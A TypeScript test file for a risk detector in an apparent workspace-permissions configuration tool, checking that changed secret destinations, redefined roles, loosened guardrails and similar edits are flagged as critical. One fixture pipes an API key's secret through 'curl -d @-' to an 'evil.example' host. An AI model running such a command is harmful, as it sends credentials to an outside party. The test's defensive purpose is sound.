import {describe, expect, it} from 'vitest';
import type {RiskFinding, ShownChange} from '../../../src/model/plan.ts';
import {findRisks} from '../../../src/plan/risk/index.ts';
import {desiredFrom, WORKSPACE_ID} from '../../support/world.ts';
import {draft} from '../drafts.ts';

/** What a rule finds between two versions of the files, no row changing. */
type Row = readonly [phrase: string, before: string, after: string, messages: readonly string[]];

const state = (files: string) => desiredFrom(`version: 1\nworkspace: {id: ${WORKSPACE_ID}}\n${files}\n`);
const between = (before: string, after: string, changes: readonly ShownChange[] = []) =>
  findRisks({changes, desired: state(after), base: state(before)});
const messages = (risks: readonly RiskFinding[], rule: string) =>
  risks.filter(one => one.rule === rule).map(({message}) => message);

const key = (more: string) => `keys: [{name: K, scopes: ["leads:read"]${more}}]`;
const file = (path: string) => key(`, secret: {to: file, path: ${path}}`);
const github = (repository: string, name = 'KEY') =>
  key(`, secret: {to: github, repository: ${repository}, name: ${name}}`);

const changedDestination: readonly Row[] = [
  ['another file', file('a.key'), file('b.key'), ['key/K: its secret goes to b.key, and went to a.key']],
  [
    'another sink',
    file('a.key'),
    key(', secret: {to: exec, command: [curl, -d, "@-", "https://evil.example/?q=1 2"]}'),
    ['key/K: its secret goes to the program curl -d @- "https://evil.example/?q=1 2", and went to a.key'],
  ],
  ['a first place', key(''), file('a.key'), ['key/K: its secret goes to a.key, and went to no declared place']],
  ['a place that goes', file('a.key'), key(''), ['key/K: its secret goes to no declared place, and went to a.key']],
  [
    'another repository',
    github('acme/app'),
    github('evil/app'),
    ['key/K: its secret goes to KEY of evil/app on GitHub, and went to KEY of acme/app on GitHub'],
  ],
  [
    'a place that changes together with the name',
    file('a.key'),
    'keys: [{name: New, previously: [K], scopes: ["leads:read"], secret: {to: file, path: b.key}}]',
    ['key/New: its secret goes to b.key, and went to a.key'],
  ],
  ['nothing in the same place', file('a.key'), file('a.key'), []],
  ['nothing in the same place spelled otherwise', github('acme/app'), github('ACME/App', 'key'), []],
  ['nothing in a new key', 'keys: []', file('a.key'), []],
  ['nothing in other scopes', key(''), 'keys: [{name: K, scopes: ["leads:all"]}]', []],
];

const role = (text: string, members = '') => `roles: {manager: {${text}}}\nmembers: [${members}]`;
const ANA = '{email: ana@acme.com, role: manager}';
const redefinedRole: readonly Row[] = [
  [
    'another grant',
    role('grants: view', ANA),
    role('grants: admin', ANA),
    ['the role manager is redefined for 1 member: grants view → admin'],
  ],
  [
    'other permissions',
    role('grants: editor, permissions: [crm.view, unibox.all]'),
    role('grants: editor, permissions: [crm.view, leads.move]'),
    ['the role manager is redefined for nobody yet: permissions + leads.move, permissions − unibox.all'],
  ],
  [
    'permissions that go',
    role('grants: editor, permissions: [crm.view]'),
    role('grants: editor'),
    ['the role manager is redefined for nobody yet: permissions no longer narrowed'],
  ],
  [
    'permissions that come',
    role('grants: editor'),
    role('grants: editor, permissions: [crm.view]'),
    ['the role manager is redefined for nobody yet: permissions narrowed to crm.view'],
  ],
  [
    'nothing in another order',
    role('grants: editor, permissions: [crm.view, leads.move]'),
    role('grants: editor, permissions: [leads.move, crm.view]'),
    [],
  ],
  ['nothing in another description', role('grants: view, description: a'), role('grants: view, description: b'), []],
  ['nothing in a new role', 'members: []', role('grants: admin'), []],
];

const manageChanged: readonly Row[] = [
  [
    'a section that goes',
    'members: []\nkeys: []',
    'members: []',
    ['keys: no longer managed, live ones stay as they are'],
  ],
  [
    'a section that comes',
    'members: []',
    'members: []\nkeys: []',
    ['keys: newly managed, undeclared ones are removed'],
  ],
  ['tags that come', 'members: []', 'members: []\ntags: []', ['tags: newly managed, undeclared ones are left alone']],
  ['assignments that come', 'tags: []', 'tags: []\nassignments: []', ['assignments: newly managed']],
  [
    'removal that ends',
    'members: []',
    'members: []\nmanage: {members: additive}',
    ['members: now additive, undeclared ones are left alone'],
  ],
  [
    'removal that begins',
    'tags: []',
    'tags: []\nmanage: {tags: authoritative}',
    ['tags: now authoritative, undeclared ones are removed'],
  ],
  ['nothing where the default is written out', 'members: []', 'members: []\nmanage: {members: authoritative}', []],
];

const ignore = (globs: string) => `members: []\nmanage: {ignore: ${globs}}`;
const ignoreChanged: readonly Row[] = [
  ['a pattern that comes', 'members: []', ignore('["key/Zapier*"]'), ['now ignored: key/Zapier*']],
  ['a pattern that goes', ignore('["key/Zapier*"]'), 'members: []', ['no longer ignored: key/Zapier*']],
  [
    'both',
    ignore('["key/a", "key/b"]'),
    ignore('["key/b", "key/*"]'),
    ['now ignored: key/*; no longer ignored: key/a'],
  ],
  ['nothing in another order', ignore('["key/a", "key/b"]'), ignore('["key/b", "key/a", "key/a"]'), []],
];

const loosenedGuardrail: readonly Row[] = [
  [
    'each rule that refuses less',
    'members: []\nguardrails: {min_admins: 3, max_removals: 10%}',
    'members: []\nguardrails: {max_removals: 80%}',
    [
      'the guardrail min_admins is loosened: it is 1, was 3',
      'the guardrail max_removals is loosened: it is 80%, was 10%',
    ],
  ],
  ['nothing in a stricter one', 'members: []', 'members: []\nguardrails: {min_admins: 3}', []],
];

describe.each([
  ['loosened_guardrail', loosenedGuardrail],
  ['changed_destination', changedDestination],
  ['redefined_role', redefinedRole],
  ['manage_changed', manageChanged],
  ['ignore_changed', ignoreChanged],
] as const)('%s finds', (rule, rows) => {
  it.each(rows)('%s', (_phrase, before, after, expected) => {
    const risks = between(before, after);
    expect(messages(risks, rule)).toEqual(expected);
    expect(risks.filter(one => one.rule === rule).every(({risk}) => risk === 'critical')).toBe(true);
  });

  it.each(rows)('nothing without earlier files (%s)', (_phrase, _before, after) => {
    expect(findRisks({changes: [], desired: state(after)})).toEqual([]);
  });
});

describe('two versions of the files', () => {
  it('point at the key whose destination was changed, and at no object otherwise', () => {
    const [destination] = between(file('a.key'), file('b.key'));
    expect(destination).toMatchObject({address: 'key/K', at: {file: 'rbac.yaml', line: 3}});
    const [ignored] = between('members: []', ignore('["key/x"]'));
    expect(ignored).toMatchObject({address: null, at: null});
  });

  it('are measured from nothing without calling every section new', () => {
    const empty = desiredFrom('version: 1\nroles: {}\n');
    expect(findRisks({changes: [], desired: state('members: []\nkeys: []'), base: empty})).toEqual([]);
  });

  it('tell without live state when nobody is declared admin any more', () => {
    const admin = 'members: [{email: a@acme.com, role: admin}]';
    const {change} = draft('delete', 'member/a@acme.com', {change: {before: {email: 'a@acme.com', role: 'admin'}}});
    const shown = [change as unknown as ShownChange];
    expect(messages(between(admin, 'members: []', shown), 'last_admin')).toHaveLength(1);
    expect(messages(between(admin, 'members: [{email: b@acme.com, role: admin}]', shown), 'last_admin')).toEqual([]);
    expect(messages(between(admin, 'keys: []', shown), 'last_admin')).toEqual([]);
  });

  it('tell without live state when no declared key reaches a resource any more', () => {
    const {change} = draft('delete', 'key/K', {change: {before: {name: 'K', scopes: ['leads:read']}}});
    const shown = [change as unknown as ShownChange];
    expect(messages(between(key(''), 'keys: []', shown), 'last_key')).toEqual([
      'key/K: no key is left that reaches leads',
    ]);
    const other = 'keys: [{name: Other, scopes: ["all:read"]}]';
    expect(messages(between(key(''), other, shown), 'last_key')).toEqual([]);
  });

  it('know whose mail domains were declared before', () => {
    const {change} = draft('create', 'member/b@evil.com', {change: {after: {email: 'b@evil.com', role: 'view'}}});
    const shown = [change as unknown as ShownChange];
    const member = (email: string) => `members: [{email: ${email}, role: view}]`;
    expect(messages(between(member('a@acme.com'), member('b@evil.com'), shown), 'outside_domain')).toHaveLength(1);
    expect(messages(between(member('a@evil.com'), member('b@evil.com'), shown), 'outside_domain')).toEqual([]);
  });
});
